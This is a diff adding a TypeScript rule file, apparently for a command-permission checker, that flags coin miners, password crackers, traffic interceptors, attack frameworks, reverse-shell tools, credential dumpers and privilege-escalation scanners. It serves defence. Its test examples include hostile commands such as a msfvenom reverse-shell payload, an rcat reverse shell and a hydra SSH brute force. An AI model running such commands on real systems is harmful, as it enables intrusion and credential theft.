@@ -1,0 +1,69 @@
+// Programs whose purpose is to break into machines, to crack passwords or to mine coins.
+import type { EffectRule, ProgramSpec } from '../spec.ts';
+
+const attacks = (why: string): readonly EffectRule[] => [
+  { code: 'attack-tool', kind: 'escalate', why, safer: 'let the person run it, if they asked for it' },
+];
+
+/** A program that attacks whatever its words are, except when asked for help or its version. */
+const attackTool = (names: string, about: string, why: string, example: string): ProgramSpec => ({
+  names,
+  about,
+  effects: attacks(why),
+  examples: [
+    { command: example, expect: 'ask' },
+    { command: `${names.split(' ')[0]} --help`, expect: 'pass' },
+    { command: `which ${names.split(' ')[0]}`, expect: 'pass', title: 'Only looks whether it is there' },
+  ],
+});
+
+export const programs: readonly ProgramSpec[] = [
+  attackTool(
+    'xmrig xmr-stak minerd cpuminer cpuminer-opt ethminer nbminer lolminer t-rex phoenixminer cgminer bfgminer ccminer',
+    'Mines coins.',
+    'Mines coins with this machine.',
+    'xmrig -o pool.example:3333 -u wallet',
+  ),
+  attackTool(
+    'hydra ncrack patator crowbar kerbrute thc-hydra brutespray',
+    'Tries passwords on a server.',
+    'Tries passwords on a server until one works.',
+    'hydra -l root -P list.txt ssh://10.0.0.5',
+  ),
+  attackTool(
+    'ettercap bettercap arpspoof dsniff mitm6 responder responder.py sslstrip macof',
+    'Reads or changes the traffic of other machines.',
+    'Reads or changes the traffic of other machines in the network.',
+    'arpspoof -t 10.0.0.5 10.0.0.1',
+  ),
+  attackTool(
+    'msfconsole msfvenom msfdb sliver-client sliver-server havoc empire merlin pupysh poshc2 koadic weevely',
+    'A framework for attacks on other machines.',
+    'Makes or runs attacks on other machines.',
+    'msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf',
+  ),
+  attackTool(
+    'rcat rustcat pwncat pwncat-cs',
+    'Gives a shell to another machine, or waits for one.',
+    'Gives a shell to another machine, or waits for one.',
+    'rcat connect -s bash 10.0.0.1 9001',
+  ),
+  attackTool(
+    'mimipenguin lazagne lazagne.py secretsdump.py impacket-secretsdump pypykatz gosecretsdump firepwd keyring-dump swiftbelt hekatomb donpapi',
+    'Collects the passwords that programs have stored.',
+    'Collects the passwords that programs of this machine have stored.',
+    'lazagne all',
+  ),
+  attackTool(
+    'linpeas linpeas.sh linenum.sh lse.sh pspy pspy64 pspy32 linux-exploit-suggester.sh unix-privesc-check traitor beroot.py',
+    'Looks for a way to become root.',
+    'Looks for a way to become root on this machine.',
+    'linpeas.sh -a',
+  ),
+  attackTool(
+    'crackmapexec cme netexec nxc evil-winrm psexec.py wmiexec.py smbexec.py bloodhound-python certipy rubeus getuserspns.py getnpusers.py',
+    'Attacks the machines of a Windows network.',
+    'Attacks the machines of a Windows network.',
+    'netexec smb 10.0.0.0/24 -u admin -p pass',
+  ),
+];
